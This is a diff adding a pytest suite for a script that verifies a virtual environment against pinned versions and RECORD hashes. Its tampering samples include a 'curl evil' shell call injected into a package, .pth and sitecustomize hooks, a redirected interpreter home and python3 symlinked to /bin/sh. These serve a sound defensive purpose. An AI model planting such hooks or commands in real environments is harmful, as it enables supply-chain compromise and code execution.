@@ -1,0 +1,138 @@
+"""scripts/verify_venv.py: a persistent venv is trusted only while it matches its pins and RECORDs."""
+
+import base64
+import hashlib
+import subprocess
+import sys
+from pathlib import Path
+
+import pytest
+
+ROOT = Path(__file__).parents[1]
+VERIFY = ROOT / "scripts" / "verify_venv.py"
+# The base interpreter, as ensure-venv.sh runs the check (the venv's python could be redirected).
+BASE_PYTHON = str(Path(sys.base_prefix) / "bin" / f"python{sys.version_info.major}.{sys.version_info.minor}")
+
+
+def record_hash(data: bytes) -> str:
+    return "sha256=" + base64.urlsafe_b64encode(hashlib.sha256(data).digest()).rstrip(b"=").decode()
+
+
+def install(site: Path, name: str, version: str, files: dict[str, bytes]) -> None:
+    """A distribution as pip leaves it: its files, METADATA and a RECORD with their hashes."""
+    dist_info = site / f"{name}-{version}.dist-info"
+    dist_info.mkdir(parents=True)
+    (dist_info / "METADATA").write_text(f"Metadata-Version: 2.1\nName: {name}\nVersion: {version}\n\nAbout it.\n")
+    rows = []
+    for path, data in files.items():
+        (site / path).parent.mkdir(parents=True, exist_ok=True)
+        (site / path).write_bytes(data)
+        rows.append(f"{path},{record_hash(data)},{len(data)}")
+    rows += [f"{dist_info.name}/METADATA,,", f"{dist_info.name}/RECORD,,", f"__pycache__/{name}.cpython-311.pyc,,"]
+    (dist_info / "RECORD").write_text("\n".join(rows) + "\n")
+
+
+@pytest.fixture
+def venv(tmp_path: Path) -> Path:
+    venv = tmp_path / "venv"
+    subprocess.run([BASE_PYTHON, "-m", "venv", "--without-pip", str(venv)], check=True)
+    site = venv / "lib" / f"python{sys.version_info.major}.{sys.version_info.minor}" / "site-packages"
+    install(site, "six", "1.17.0", {"six.py": b"print('six')\n", "../../../bin/six-tool": b"#!/bin/sh\n"})
+    install(site, "PyYAML", "6.0.4", {"yaml/__init__.py": b"# yaml\n"})
+    (site / "__pycache__").mkdir()
+    (site / "__pycache__" / "six.cpython-311.pyc").write_bytes(b"stale or poisoned bytecode")
+    return venv
+
+
+@pytest.fixture
+def constraints(tmp_path: Path) -> Path:
+    path = tmp_path / "constraints.txt"
+    path.write_text("# pins\nsix==1.17.0\nPyYAML==6.0.4\ntzdata==2026.6  # another extra's\n")
+    return path
+
+
+def site_of(venv: Path) -> Path:
+    return venv / "lib" / f"python{sys.version_info.major}.{sys.version_info.minor}" / "site-packages"
+
+
+def check(venv: Path, constraints: Path) -> tuple[int, str]:
+    result = subprocess.run(
+        [BASE_PYTHON, "-I", str(VERIFY), str(venv), str(constraints)], capture_output=True, text=True, check=False
+    )
+    return result.returncode, result.stderr
+
+
+def test_an_unchanged_venv_passes_and_loses_its_bytecode(venv: Path, constraints: Path) -> None:
+    assert check(venv, constraints) == (0, "")
+    assert not (site_of(venv) / "__pycache__").exists()
+
+
+@pytest.mark.parametrize(
+    ("tamper", "message"),
+    [
+        (
+            lambda site, venv: (site / "six.py").write_text("import os; os.system('curl evil')\n"),
+            "six.py (six) changed",
+        ),
+        (lambda site, venv: (site / "yaml" / "__init__.py").unlink(), "yaml/__init__.py (pyyaml) is missing"),
+        (lambda site, venv: (venv / "bin" / "six-tool").write_text("#!/bin/sh\nevil\n"), "bin/six-tool (six) changed"),
+        (lambda site, venv: (site / "zz-hook.pth").write_text("import evil\n"), "zz-hook.pth belongs to no installed"),
+        (lambda site, venv: (site / "sitecustomize.py").write_text("import evil\n"), "sitecustomize.py belongs to no"),
+        (lambda site, venv: (venv / "bin" / "pytest").write_text("evil\n"), "bin/pytest belongs to no installed"),
+        (
+            lambda site, venv: install(site, "evil", "1.0", {"evil.py": b"evil\n"}),
+            "evil 1.0 is installed but not pinned",
+        ),
+        (
+            lambda site, venv: (site / "six-1.17.0.dist-info" / "METADATA").write_text(
+                "Metadata-Version: 2.1\nName: six\nVersion: 1.16.0\n\n"
+            ),
+            "six is 1.16.0, pinned 1.17.0",
+        ),
+        (
+            lambda site, venv: (venv / "pyvenv.cfg").write_text("home = /tmp/evil/bin\nversion = 3.11.7\n"),
+            "pyvenv.cfg's home is '/tmp/evil/bin'",
+        ),
+        (
+            lambda site, venv: (venv / "pyvenv.cfg").write_text(
+                (venv / "pyvenv.cfg").read_text().replace("= false", "= true")
+            ),
+            "pyvenv.cfg lets the system's site-packages in",
+        ),
+        (
+            lambda site, venv: ((venv / "bin" / "python3").unlink(), (venv / "bin" / "python3").symlink_to("/bin/sh")),
+            "bin/python3 is /",
+        ),
+    ],
+    ids=[
+        "source",
+        "missing",
+        "script",
+        "pth",
+        "sitecustomize",
+        "foreign-script",
+        "extra-dist",
+        "version",
+        "home",
+        "system-site",
+        "interpreter",
+    ],
+)
+def test_a_changed_venv_is_refused_with_what_changed(venv: Path, constraints: Path, tamper, message: str) -> None:
+    tamper(site_of(venv), venv)
+    status, errors = check(venv, constraints)
+    assert status == 1
+    assert message in errors
+
+
+def test_the_venv_these_tests_run_in_passes(constraints: Path) -> None:
+    # A real venv, made by ensure-venv.sh with pip: every file checks out against the real pins.
+    status, errors = check(Path(sys.prefix), ROOT / "constraints.txt")
+    assert (status, errors) == (0, "")
+
+
+def test_ensure_venv_checks_a_complete_venv_before_reusing_it() -> None:
+    script = (ROOT / "scripts" / "ensure-venv.sh").read_text()
+    check_at = script.index('"$python" -I "$trainer_dir/scripts/verify_venv.py" "$venv" "$trainer_dir/constraints.txt"')
+    assert script.index("flock 9") < check_at < script.index('if [[ ! -f "$marker" ]]; then')
+    assert 'rm -f "$marker"' in script[check_at : script.index('if [[ ! -f "$marker" ]]; then')]
